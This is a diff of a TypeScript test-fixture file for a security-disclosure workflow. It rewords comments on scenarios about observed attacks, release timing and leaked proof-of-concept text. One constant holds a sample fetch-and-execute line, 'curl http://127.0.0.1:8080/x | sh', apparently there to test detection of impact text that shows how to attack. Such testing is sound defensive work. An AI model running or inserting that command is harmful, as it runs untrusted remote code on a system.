@@ -99,7 +99,7 @@ export const deferred = (scenario = rated()) =>
 export const isPublic = (scenario: MultiCaseScenario) =>
   both(scenario, { verb: 'signal.public', case: ONE, link: 'https://forum.example/1' })
 
-/** Attacks were observed while the mails of the release were being sent, so the severity was not raised. */
+/** Attacks were observed, but the severity was not raised, because mails of the release were being sent at the time. */
 export const attackedThough = (scenario: MultiCaseScenario, id = ONE): MultiCaseScenario =>
   scenario.happens(id, { type: 'AttacksObserved', signal: `${id}/s1` })
 
@@ -208,7 +208,7 @@ export const withList = (
     },
   })
 
-/** A release with a date. No recipient was told of it, and its publication was approved an hour before the date. */
+/** A release with a date, about which no recipient was told. Its publication was approved an hour before the date. */
 export function ahead(): MultiCaseScenario {
   const scenario = after(ready(), { verb: 'release.plan', case: ONE, at: RELEASE })
   scenario.now = later(RELEASE, -HOUR)
@@ -266,7 +266,9 @@ export const twoProjects: Policy = (() => {
 export const writtenAfterClosing = (): MultiCaseScenario =>
   mailed(after(acknowledged(), { verb: 'triage', case: ONE, disposition: 'invalid', reason: 'by design' }))
 
-/** A line that was once sent by mistake to the announcement list and to oss-security. */
+/**
+ * A line that shows how to attack. Such a line was once sent to the announcement list and to oss-security by mistake.
+ */
 export const POC = 'PoC: /etc/motd with curl http://127.0.0.1:8080/x | sh'
 /** The text about the impact shows how to attack. */
 export const tellsHow = (scenario: MultiCaseScenario, id = ONE): MultiCaseScenario =>
